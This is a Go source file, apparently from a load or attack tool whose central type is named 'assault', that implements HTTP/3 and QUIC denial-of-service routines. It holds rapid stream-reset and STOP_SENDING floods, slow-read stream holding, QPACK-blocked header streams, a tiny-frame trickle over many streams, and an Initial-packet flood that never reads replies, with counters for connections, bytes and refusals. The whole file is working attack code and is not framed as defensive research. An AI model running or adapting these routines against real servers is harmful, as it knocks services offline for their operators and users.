package main

import (
	"context"
	"net"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

// openH3 does the handshake and opens the control stream with empty SETTINGS (RFC 9114 6.2.1).
func (a *assault) openH3(config *quic.Config) (*quic.Conn, func(), error) {
	socket, err := net.ListenUDP("udp4", &net.UDPAddr{IP: source})
	if err != nil {
		return nil, nil, err
	}
	to, err := net.ResolveUDPAddr("udp4", a.address)
	if err != nil {
		socket.Close()
		return nil, nil, err
	}
	ctx, cancel := context.WithTimeout(a.ctx, 2*time.Second)
	defer cancel()
	config.MaxIdleTimeout = 10 * time.Second
	c, err := quic.Dial(ctx, socket, to, a.tlsConfig("h3"), config)
	if err != nil {
		a.refused.Add(1)
		socket.Close()
		return nil, nil, err
	}
	a.connections.Add(1)
	closeAll := func() {
		_ = c.CloseWithError(0x100, "")
		socket.Close()
	}
	control, err := c.OpenUniStream()
	if err == nil {
		_, err = control.Write([]byte{0, 4, 0})
	}
	if err != nil {
		closeAll()
		return nil, nil, err
	}
	return c, closeAll, nil
}

// h3Head returns a HEADERS frame whose fields are all literals (RFC 9204 4.5.6).
func (a *assault) h3Head(method, path string) []byte {
	section := []byte{0, 0}
	for _, field := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", a.to.name}, {":path", path}} {
		name := field[0]
		if len(name) < 7 {
			section = append(section, 0x20|byte(len(name)))
		} else {
			section = append(section, 0x27, byte(len(name)-7))
		}
		section = append(section, name...)
		section = append(section, byte(len(field[1])))
		section = append(section, field[1]...)
	}
	return h3Frame(1, section)
}

func h3Frame(kind uint64, payload []byte) []byte {
	frame := quicvarint.Append(nil, kind)
	frame = quicvarint.Append(frame, uint64(len(payload)))
	return append(frame, payload...)
}

// streamsH3 opens streams as fast as the server allows, sends head on each and calls then.
func (a *assault) streamsH3(head []byte, then func(s *quic.Stream) error) error {
	c, closeAll, err := a.openH3(&quic.Config{})
	if err != nil {
		return err
	}
	defer closeAll()
	for a.ctx.Err() == nil {
		s, err := c.OpenStreamSync(a.ctx)
		if err != nil {
			return err
		}
		if _, err := s.Write(head); err != nil {
			return err
		}
		a.bytes.Add(int64(len(head)))
		if err := then(s); err != nil {
			return err
		}
		a.units.Add(1)
	}
	return nil
}

const requestCancelled = 0x10c // H3_REQUEST_CANCELLED (RFC 9114 8.1)

func h3Reset(a *assault) error {
	return a.streamsH3(a.h3Head("POST", small), func(s *quic.Stream) error {
		s.CancelWrite(requestCancelled)
		s.CancelRead(requestCancelled)
		return nil
	})
}

func h3StopSending(a *assault) error {
	return a.streamsH3(a.h3Head("GET", large), func(s *quic.Stream) error {
		s.CancelRead(requestCancelled)
		return s.Close()
	})
}

func h3SlowRead(a *assault) error {
	c, closeAll, err := a.openH3(&quic.Config{})
	if err != nil {
		return err
	}
	defer closeAll()
	head := a.h3Head("GET", large)
	for range 20 {
		s, err := c.OpenStreamSync(a.ctx)
		if err != nil {
			return err
		}
		if _, err := s.Write(head); err != nil {
			return err
		}
		if err := s.Close(); err != nil {
			return err
		}
		a.units.Add(1)
	}
	select {
	case <-a.ctx.Done():
	case <-c.Context().Done():
	}
	return nil
}

func h3BlockedQpack(a *assault) error {
	// Required Insert Count 2 (encoded 3), base 0, and the first entry of the dynamic table (RFC 9204 4.5.1).
	head := h3Frame(1, []byte{3, 0, 0x80})
	return a.streamsH3(head, func(s *quic.Stream) error { return s.Close() })
}

func h3TinyFrames(a *assault) error {
	c, closeAll, err := a.openH3(&quic.Config{})
	if err != nil {
		return err
	}
	defer closeAll()
	head := a.h3Head("POST", small)
	var streams []*quic.Stream
	for range 50 {
		s, err := c.OpenStreamSync(a.ctx)
		if err != nil {
			return err
		}
		if _, err := s.Write(head); err != nil {
			return err
		}
		streams = append(streams, s)
	}
	piece := []byte{0, 1, 'x'}
	for a.ctx.Err() == nil {
		for _, s := range streams {
			_ = s.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := s.Write(piece); err != nil {
				return err
			}
			a.units.Add(1)
			a.bytes.Add(int64(len(piece)))
		}
	}
	return nil
}

// h3Initials sends Initial packets, each with a new connection id, and reads no reply.
func h3Initials(a *assault) error {
	c, err := (&net.Dialer{LocalAddr: &net.UDPAddr{IP: source}}).DialContext(a.ctx, "udp4", a.address)
	if err != nil {
		return err
	}
	defer c.Close()
	initials, err := newInitials(a)
	if err != nil {
		return err
	}
	for a.ctx.Err() == nil {
		packet := initials.next()
		if _, err := c.Write(packet); err != nil {
			return err
		}
		a.units.Add(1)
		a.bytes.Add(int64(len(packet)))
	}
	return nil
}
